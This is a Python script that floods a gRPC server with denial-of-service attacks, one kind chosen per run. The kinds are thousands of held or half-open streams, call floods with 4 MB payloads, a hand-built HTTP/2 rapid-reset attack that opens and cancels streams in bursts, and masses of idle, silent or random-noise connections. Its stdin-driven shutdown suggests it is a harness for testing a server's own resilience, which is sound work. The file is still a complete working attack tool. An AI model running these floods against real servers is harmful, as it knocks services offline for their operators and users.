"""Attacks a gRPC server without a token, one kind at a time, until its standard input ends. Run as a process of its own.

    python grpc_attacker.py HOST:PORT KIND [METHOD...]

Prints "attacking" once it has begun. It stays on the machine's last core.
"""

import asyncio
import contextlib
import itertools
import os
import socket
import sys
from typing import Any

import grpc

CHECK, WATCH = "/grpc.health.v1.Health/Check", "/grpc.health.v1.Health/Watch"
REFLECT = "/grpc.reflection.v1alpha.ServerReflection/ServerReflectionInfo"
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + bytes(3) + b"\x04\x00" + bytes(4)
LARGE = bytes(4_000_000)


def channel(address: str) -> grpc.aio.Channel:
    """A connection of its own."""
    return grpc.aio.insecure_channel(address, options=(("grpc.use_local_subchannel_pool", 1),))


async def repeat(call: Any, data: bytes) -> None:
    while True:
        try:
            await call(data, timeout=20)
        except grpc.aio.AioRpcError:
            await asyncio.sleep(0)


async def hold(channels: list[grpc.aio.Channel], method: str, data: bytes | None, count: int) -> None:
    """Keeps that many streams open; with no data, each sends its headers and then nothing."""

    async def one(number: int) -> None:
        while True:
            call = channels[number % len(channels)].stream_stream(method)(timeout=60)
            try:
                await call.wait_for_connection()
                if data is not None:
                    await call.write(data)
                while await call.read() is not grpc.aio.EOF:
                    pass
            except (grpc.aio.AioRpcError, asyncio.InvalidStateError):
                pass
            await asyncio.sleep(0.01)

    await asyncio.gather(*(one(number) for number in range(count)))


async def connections(address: str, opening: bytes, count: int) -> None:
    """Keeps that many connections open, each said no more than `opening`, and opens again what was closed."""
    host, _, port = address.rpartition(":")

    async def one() -> None:
        loop = asyncio.get_running_loop()
        while True:
            with socket.socket() as sock:
                sock.setblocking(False)
                try:
                    await loop.sock_connect(sock, (host, int(port)))
                    await loop.sock_sendall(sock, opening)
                    while await loop.sock_recv(sock, 4096):
                        pass
                except OSError:
                    pass
            await asyncio.sleep(0.05)

    await asyncio.gather(*(one() for _ in range(count)))


def frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
    """One HTTP/2 frame. Source: RFC 9113 section 4.1."""
    return len(payload).to_bytes(3, "big") + bytes((kind, flags)) + stream.to_bytes(4, "big") + payload


async def resets(address: str, methods: list[str], count: int) -> None:
    """Opens streams and cancels each with the next frame, 50 at a time, on that many connections."""

    def literal(name: str, value: str) -> bytes:
        """A header as HPACK literal without indexing. Source: RFC 7541 section 6.2.2."""
        return b"\0" + bytes((len(name),)) + name.encode() + bytes((len(value),)) + value.encode()

    host, _, port = address.rpartition(":")
    common = literal(":method", "POST") + literal(":scheme", "http") + literal(":authority", "x")
    common += literal("content-type", "application/grpc") + literal("te", "trailers")
    blocks = itertools.cycle([common + literal(":path", method) for method in methods])

    async def answer(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        """Acknowledges pings and settings, without which a server takes no more streams."""
        with contextlib.suppress(OSError, asyncio.IncompleteReadError):
            while head := await reader.readexactly(9):
                data = await reader.readexactly(int.from_bytes(head[:3], "big"))
                if head[3] in (4, 6) and not head[4] & 1:
                    writer.write(frame(head[3], 1, 0, data if head[3] == 6 else b""))

    async def one() -> None:
        while True:
            with contextlib.suppress(OSError):
                reader, writer = await asyncio.open_connection(host, int(port))
                writer.write(PREFACE)
                answering = asyncio.ensure_future(answer(reader, writer))
                stream = 1
                while not answering.done():
                    for _ in range(50):
                        opened = frame(1, 4, stream, next(blocks))
                        writer.write(opened + frame(3, 0, stream, (8).to_bytes(4, "big")))
                        stream += 2
                    await writer.drain()
                    await asyncio.sleep(0.005)
                writer.close()
            await asyncio.sleep(0.05)

    await asyncio.gather(*(one() for _ in range(count)))


async def attack(address: str, kind: str, methods: list[str]) -> None:
    many = [channel(address) for _ in range(20)]
    turn = itertools.cycle(methods)
    match kind:
        case "watches":
            await hold(many, WATCH, b"", 2600)
        case "reflections":
            await hold(many, REFLECT, b"", 2600)
        case "half-calls":
            await asyncio.gather(*(hold(many, m, None, 2600 // len(methods)) for m in methods))
        case "half-checks":
            await hold(many, CHECK, None, 2600)
        case "checks":
            await asyncio.gather(*(repeat(many[i % 20].unary_unary(CHECK), b"") for i in range(400)))
        case "calls":
            await asyncio.gather(*(repeat(many[i % 20].unary_unary(next(turn)), b"") for i in range(400)))
        case "large":
            await asyncio.gather(*(repeat(many[i % 20].unary_unary(next(turn)), LARGE) for i in range(400)))
        case "large-checks":
            await asyncio.gather(*(repeat(many[i % 20].unary_unary(CHECK), LARGE) for i in range(400)))
        case "resets":
            await resets(address, methods, 20)
        case "check-resets":
            await resets(address, [CHECK], 20)
        case "idle-connections":
            await connections(address, b"", 3000)
        case "silent-connections":
            await connections(address, PREFACE, 3000)
        case "noise":
            await connections(address, os.urandom(2000), 500)


KINDS = [
    "watches",
    "reflections",
    "half-calls",
    "half-checks",
    "checks",
    "calls",
    "large",
    "large-checks",
    "resets",
    "check-resets",
    "idle-connections",
    "silent-connections",
    "noise",
]


async def main() -> None:
    import resource

    resource.setrlimit(resource.RLIMIT_NOFILE, (resource.getrlimit(resource.RLIMIT_NOFILE)[1],) * 2)
    os.sched_setaffinity(0, {max(os.sched_getaffinity(0))})
    task = asyncio.create_task(attack(sys.argv[1], sys.argv[2], sys.argv[3:]))
    await asyncio.sleep(0)
    print("attacking", flush=True)
    ended = asyncio.get_running_loop().run_in_executor(None, sys.stdin.read)
    await asyncio.wait([task, ended], return_when=asyncio.FIRST_COMPLETED)
    os._exit(0)


if __name__ == "__main__":
    asyncio.run(main())
